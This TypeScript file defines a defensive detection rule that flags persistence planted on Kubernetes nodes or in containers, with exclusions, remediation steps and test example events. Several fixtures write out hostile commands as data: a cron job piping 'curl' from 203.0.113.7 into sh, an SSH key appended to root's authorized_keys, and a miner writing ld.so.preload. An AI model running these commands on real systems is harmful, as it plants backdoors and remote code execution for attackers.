import { type NodeEvent, type NodeProcess } from '../../../node/nodeEvent';
import { falcoAlertEvent, fileAccessEvent, processExecEvent } from '../../../node/exampleNodeEvents';
import { type DetectionContext } from '../../detectionContext';
import { type AlertEntity, EntityType } from '../../entities';
import { commandLineOf, nodeDedupKey, nodeEventEntities } from '../../nodeEntities';
import {
  hookFilePaths,
  hookSucceeded,
  isFileWrite,
  isRunByPackageManager,
  isRunByProvisioningAgent,
  PersistenceLocation,
  persistenceLocationOf,
} from '../../predicates/nodeFiles';
import { argumentList, baseName, isExec, isInContainer, isSystemWorkload, processIdentities } from '../../predicates/nodeProcesses';
import { defineNodeRule, Intent, Severity } from '../../rule';

type PersistenceKind = PersistenceLocation | 'user account' | 'cron job' | 'systemd unit enabled';

interface PersistenceAttempt {
  kind: PersistenceKind;
  evidence: string;
}

/** Account tools that add a user, change a password or a group membership. */
const ACCOUNT_TOOLS: ReadonlySet<string> = new Set(['useradd', 'adduser', 'usermod', 'passwd', 'chpasswd', 'newusers', 'gpasswd']);

/** The programs whose job is to write a location: their own exec is what the rule judges, not the file they write. */
const LOCATION_OWNERS: Readonly<Record<PersistenceLocation, ReadonlySet<string>>> = {
  [PersistenceLocation.cron]: new Set(['crontab']),
  [PersistenceLocation.systemdUnit]: new Set(['systemctl', 'systemd']),
  [PersistenceLocation.authorizedKeys]: new Set(),
  [PersistenceLocation.preload]: new Set(),
  [PersistenceLocation.accounts]: new Set([...ACCOUNT_TOOLS, 'userdel', 'chage', 'vipw', 'vigr', 'pwconv', 'grpconv', 'groupadd', 'groupmod', 'groupdel', 'chsh', 'chfn', 'visudo']),
  [PersistenceLocation.shellStartup]: new Set(),
};

function isOwnerOf(location: PersistenceLocation, process: NodeProcess): boolean {
  return processIdentities(process).some((name) => LOCATION_OWNERS[location].has(name));
}

/** An account tool run that changes something (not `passwd -S`, `useradd -D`). */
function accountChangeOf(process: NodeProcess): string | undefined {
  const name = processIdentities(process).find((identity) => ACCOUNT_TOOLS.has(identity));
  if (name === undefined) return undefined;
  const args = argumentList(process);
  if (name === 'passwd' && args.some((word) => word === '-S' || word === '--status')) return undefined;
  if (name === 'useradd' && args.length === 1 && args[0] === '-D') return undefined;
  return name;
}

/** `crontab -e`, `crontab -` or `crontab <file>` install a crontab; `crontab -l` only lists it. */
function installsCrontab(process: NodeProcess): boolean {
  if (baseName(process.binary) !== 'crontab') return false;
  const args = argumentList(process);
  const operands = args.filter((word, index) => args[index - 1] !== '-u' && (word === '-' || !word.startsWith('-')));
  return args.includes('-e') || operands.length > 0;
}

/** `systemctl enable|link|reenable|edit <unit>`: a unit set to start at boot (from a container it reaches the host's systemd). */
function enablesUnit(process: NodeProcess): boolean {
  if (baseName(process.binary) !== 'systemctl') return false;
  const verb = argumentList(process).find((word) => !word.startsWith('-'));
  return verb !== undefined && ['enable', 'link', 'reenable', 'edit'].includes(verb);
}

/**
 * The persistence the event plants: a user added or a password set, a crontab installed, a unit enabled from a
 * container, or a write to a persistence location (cron, systemd units, authorized_keys, ld.so.preload, the account
 * files, shell startup files). Package managers, node provisioning, container entrypoints (the container's init
 * tree) and platform pods are expected.
 */
function persistenceOf(event: NodeEvent, context: DetectionContext): PersistenceAttempt | undefined {
  if (isInContainer(event) && event.process.inInitTree === true) return undefined;
  // What the event plants first: almost every event plants nothing, and the exclusions walk the lineage.
  const attempt = plantedPersistence(event);
  if (attempt === undefined || isSystemWorkload(event, context) || isRunByPackageManager(event, context) || isRunByProvisioningAgent(event, context)) return undefined;
  return attempt;
}

function plantedPersistence(event: NodeEvent): PersistenceAttempt | undefined {
  const process = event.process;
  if (event.hook !== undefined) {
    if (!isFileWrite(event) || !hookSucceeded(event.hook)) return undefined;
    for (const path of hookFilePaths(event)) {
      const location = persistenceLocationOf(path);
      if (location !== undefined && !isOwnerOf(location, process)) return { kind: location, evidence: path };
    }
    return undefined;
  }
  if (!isExec(event)) return undefined;
  const tool = accountChangeOf(process);
  if (tool !== undefined) return { kind: 'user account', evidence: commandLineOf(process) };
  if (installsCrontab(process)) return { kind: 'cron job', evidence: commandLineOf(process) };
  if (isInContainer(event) && enablesUnit(process)) return { kind: 'systemd unit enabled', evidence: commandLineOf(process) };
  return undefined;
}

export const nodePersistence = defineNodeRule({
  id: 'node-persistence',
  alertType: 'K8S.NODE_SuspectPersistence',
  displayName: 'Persistence planted on a node or in a container',
  description:
    'A process planted a way back in: added a user or set a password (useradd, adduser, usermod, passwd, chpasswd), ' +
    'installed a crontab or wrote under /etc/cron* or /var/spool/cron, wrote a systemd unit (or enabled one from a ' +
    'container), added an SSH key to authorized_keys, wrote /etc/ld.so.preload (every program then loads the attacker\'s ' +
    'library; crypto-mining campaigns hide their processes this way), changed /etc/passwd, /etc/shadow or sudoers ' +
    'directly, or changed a shell startup file. Package managers, cloud-init and the Azure VM agent doing their job, ' +
    'container entrypoints (the container\'s init tree) and platform pods are expected.',
  // Medium as Defender's K8S.NODE_SuspectUserAddition.
  severity: Severity.Medium,
  intent: Intent.Persistence,
  techniques: ['T1136.001', 'T1098.004', 'T1053.003', 'T1543.002', 'T1574.006', 'T1546.004'],
  remediation: [
    'Undo what was planted: remove the user, key, cron entry, unit or preload entry (on a node, prefer reimaging it: one planted item is rarely the only one).',
    'Find how the process got there (its parent, an interactive session, a container with host mounts) and close that path.',
    'On AKS, nodes are cattle: cordon, drain and delete the node (or reimage the scale set instance) rather than cleaning it by hand.',
    'In a container, rebuild and redeploy the workload from its image; make the root file system read-only so nothing can be planted.',
  ],
  falsePositives: [
    'Administrators adding a user or an SSH key on a node by hand, or configuration management (Ansible, Chef, Puppet) doing it.',
    'Images whose entrypoint adds users or writes /etc/passwd at start, when the sensor does not report the container\'s init tree.',
  ],
  references: [
    'https://attack.mitre.org/techniques/T1136/001/',
    'https://attack.mitre.org/techniques/T1053/003/',
    'https://attack.mitre.org/techniques/T1543/002/',
    'https://attack.mitre.org/techniques/T1574/006/',
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
  ],
  equivalents: {
    defender: ['K8S.NODE_SuspectUserAddition', 'K8S.NODE_SshKeyAccess', 'K8S.NODE_SuspectPasswordChange'],
    falco: ['Schedule Cron Jobs', 'User mgmt binaries', 'Modify Shell Configuration File'],
    guardDuty: ['Persistence:Runtime/SuspiciousCommand'],
    elastic: ['Systemd Service Creation', 'Cron Job Created or Modified', 'SSH Authorized Keys File Modification', 'Modification of Dynamic Linker Preload Shared Object'],
  },
  eventTypes: ['process_exec', 'process_kprobe', 'process_lsm', 'process_tracepoint'],
  match: (event, context) => persistenceOf(event, context) !== undefined,
  entities: (event, context) => {
    const attempt = persistenceOf(event, context);
    const file: AlertEntity[] = attempt?.evidence.startsWith('/') === true && event.hook !== undefined ? [{ type: EntityType.file, name: attempt.evidence, hostName: event.nodeName }] : [];
    return [...nodeEventEntities(event), ...file];
  },
  details: (event, context) => {
    const attempt = persistenceOf(event, context);
    return {
      persistence: attempt?.kind ?? event.falco?.rule ?? '',
      ...(attempt === undefined ? {} : { evidence: attempt.evidence }),
      commandLine: commandLineOf(event.process),
      ...(event.falco === undefined ? {} : { falcoRule: event.falco.rule }),
    };
  },
  dedupKey: (event, context) => nodeDedupKey(event, persistenceOf(event, context)?.kind ?? event.falco?.rule ?? ''),
  examples: [
    {
      name: 'useradd in a container adds a user with a home directory and a shell',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/sbin/useradd', arguments: '-m -s /bin/bash -G sudo svc-backup', parent: { binary: '/bin/bash' } }),
    },
    {
      name: 'an SSH key appended to root\'s authorized_keys on the node through a host mount',
      expect: 'alert',
      event: fileAccessEvent({
        process: { binary: '/bin/sh', arguments: '-c "echo ssh-ed25519 AAAAC3Nza... >> /host/root/.ssh/authorized_keys"' },
        path: '/host/root/.ssh/authorized_keys',
        write: true,
      }),
    },
    {
      name: 'a cron file written on the node by a host process',
      expect: 'alert',
      event: fileAccessEvent({ process: { binary: '/usr/bin/tee', arguments: '/etc/cron.d/sync', pod: null }, parent: { binary: '/bin/bash', pod: null }, path: '/etc/cron.d/sync', write: true }),
    },
    {
      name: '/etc/ld.so.preload written in a container',
      expect: 'alert',
      event: fileAccessEvent({ process: { binary: '/tmp/.cache/kdevtmpfsi', arguments: '' }, path: '/etc/ld.so.preload', write: true }),
    },
    {
      name: 'crontab installs a job from standard input',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/crontab', arguments: '-', parent: { binary: '/bin/sh', arguments: '-c "echo \'*/5 * * * * curl -s http://203.0.113.7/x | sh\' | crontab -"' } }),
    },
    {
      name: 'Falco reports a cron job scheduled',
      expect: 'alert',
      event: falcoAlertEvent({
        rule: 'Schedule Cron Jobs',
        priority: 'Notice',
        outputFields: { 'proc.name': 'crontab', 'proc.exepath': '/usr/bin/crontab', 'proc.cmdline': 'crontab /tmp/c', 'fd.name': '' },
        tags: ['maturity_incubating', 'host', 'container', 'filesystem', 'mitre_execution', 'T1053.003'],
      }),
    },
    {
      name: 'dpkg installs a package whose maintainer script adds a system user',
      expect: 'none',
      event: processExecEvent({
        binary: '/usr/sbin/useradd',
        arguments: '--system --no-create-home --shell /usr/sbin/nologin _chrony',
        pod: null,
        parent: { binary: '/bin/sh', arguments: '/var/lib/dpkg/info/chrony.postinst configure', pod: null },
        ancestors: [{ binary: '/usr/bin/dpkg', arguments: '--configure -a', pod: null }],
      }),
    },
    {
      name: 'cloud-init creates the node\'s admin user',
      expect: 'none',
      event: processExecEvent({
        binary: '/usr/sbin/useradd',
        arguments: 'azureuser --comment azureuser --groups adm,sudo --shell /bin/bash -m',
        pod: null,
        parent: { binary: '/usr/bin/python3', arguments: '/usr/bin/cloud-init modules --mode=config', pod: null },
      }),
    },
    {
      name: 'crontab lists the current jobs',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/crontab', arguments: '-l', pod: null }),
    },
    {
      name: 'passwd shows an account\'s status',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/passwd', arguments: '-S root' }),
    },
    {
      name: 'cron reads its jobs',
      expect: 'none',
      event: fileAccessEvent({ process: { binary: '/usr/sbin/cron', arguments: '-f -P', pod: null }, path: '/etc/cron.d/e2scrub_all' }),
    },
  ],
});
